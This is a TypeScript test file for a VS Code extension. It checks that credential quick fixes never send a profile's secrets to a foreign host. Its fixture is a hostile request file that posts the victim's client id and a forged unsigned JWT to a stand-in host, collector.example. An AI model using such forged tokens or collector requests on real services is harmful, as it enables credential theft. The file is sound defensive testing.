import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { SettingKeys } from '../../../src/constants';
import { OidcProviderServer, startOidcProvider } from '../../doubles/oidcProviderServer';
import { codeValue, ourDiagnostics } from '../httpDiagnostics/diagnosticsHelpers';
import { revealTokens } from '../support/revealTokens';
import { addOidcProfile, removeTestProfile, signInOverHttp } from '../support/testProfiles';
import { setSetting } from '../support/workbench';
import { waitFor } from '../support/waitFor';

const PROFILE_ID = 'quickfix-credentials';

/** An unsigned (`alg: none`) JWT naming the victim's client in every claim a lookup might use, expired. */
function forgedJwt(clientId: string): string {
  const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const exp = Math.floor(Date.now() / 1000) - 3600;
  return `${part({ alg: 'none', typ: 'JWT' })}.${part({ client_id: clientId, azp: clientId, aud: clientId, exp })}.`;
}

/** Every code action VS Code offers anywhere in the document. */
async function allActions(document: vscode.TextDocument): Promise<vscode.CodeAction[]> {
  const whole = new vscode.Range(0, 0, document.lineCount, 0);
  const actions = await vscode.commands.executeCommand<(vscode.CodeAction | vscode.Command)[]>(
    'vscode.executeCodeActionProvider',
    document.uri,
    whole,
  );
  return actions.filter(
    (a): a is vscode.CodeAction => 'title' in a && !('command' in a && typeof a.command === 'string'),
  );
}

function editTexts(action: vscode.CodeAction): string[] {
  return (action.edit?.entries() ?? []).flatMap(([, edits]) => edits.map((e) => e.newText));
}

describe('credential quick fixes only for the profile’s own endpoints', function () {
  this.timeout(60_000);
  let server: OidcProviderServer;
  let secrets: string[];

  before(async () => {
    await setSetting(SettingKeys.autoRefresh, false);
    server = await startOidcProvider({});
    await addOidcProfile(server, { id: PROFILE_ID, label: 'quick-fix provider' });
    const result = await signInOverHttp(PROFILE_ID, server);
    assert.equal(result.ok, true, result.failure?.message);
    const { access, refresh } = await revealTokens(PROFILE_ID);
    secrets = [
      server.clientSecret,
      access,
      refresh ?? '',
      Buffer.from(`${server.clientId}:${server.clientSecret}`).toString('base64'),
    ].filter(Boolean);
  });

  after(async () => {
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
    await removeTestProfile(PROFILE_ID);
    await server?.close();
  });

  async function open(content: string, codes: string[]): Promise<vscode.TextDocument> {
    const document = await vscode.workspace.openTextDocument({ language: 'http', content });
    await vscode.window.showTextDocument(document);
    await waitFor(
      async () => {
        const found = (await ourDiagnostics(document.uri)).map(codeValue);
        return codes.every((c) => found.includes(c)) ? true : undefined;
      },
      { what: codes.join(', '), timeoutMs: 10_000 },
    );
    return document;
  }

  it('offers nothing carrying credentials to a hostile file posting the victim’s client id and a forged token elsewhere', async () => {
    const document = await open(
      [
        'POST https://collector.example/oauth2/token',
        'Content-Type: application/x-www-form-urlencoded',
        '',
        `grant_type=refresh_token&refresh_token=r&client_id=${server.clientId}`,
        '',
        '###',
        'GET https://collector.example/me',
        `Authorization: Bearer ${forgedJwt(server.clientId)}`,
        '',
      ].join('\n'),
      ['lint.token.missing-client-auth', 'lint.bearer.expired-token'],
    );
    const actions = await allActions(document);
    for (const action of actions) {
      const texts = editTexts(action).join('\n');
      assert.ok(!/\$auth\./.test(texts), `${action.title} inserts a credential variable`);
      assert.ok(!action.title.includes('quick-fix provider'), `${action.title} names the victim's profile`);
      for (const secret of secrets) {
        assert.ok(!texts.includes(secret), `${action.title} carries a secret`);
      }
    }
  });

  it('offers no fresh token for a forged token with matching claims, even on the profile’s own host', async () => {
    const document = await open(
      `GET ${server.issuer}/me\nAuthorization: Bearer ${forgedJwt(server.clientId)}\n`,
      ['lint.bearer.expired-token'],
    );
    const actions = await allActions(document);
    assert.deepEqual(
      actions.filter((a) =>
        editTexts(a).some((t) => t.includes('$auth') || secrets.some((s) => t.includes(s))),
      ),
      [],
    );
  });

  it('adds the Basic header at the profile’s own token endpoint as a variable, never preferred', async () => {
    const document = await open(
      `POST ${server.tokenEndpoint}\nContent-Type: application/x-www-form-urlencoded\n\ngrant_type=refresh_token&refresh_token=r\n`,
      ['lint.token.missing-client-auth'],
    );
    const actions = await waitFor(
      async () => {
        const found = (await allActions(document)).filter((a) =>
          editTexts(a).some((t) => t.includes('$auth.basic')),
        );
        return found.length > 0 ? found : undefined;
      },
      { what: 'the Basic quick fix of the profile', timeoutMs: 10_000 },
    );
    assert.equal(actions[0].isPreferred, false);
    assert.ok(await vscode.workspace.applyEdit(actions[0].edit!));
    assert.equal(document.lineAt(2).text, `Authorization: Basic {{$auth.basic("${PROFILE_ID}")}}`);
    for (const secret of secrets) {
      assert.ok(!document.getText().includes(secret));
    }
  });
});
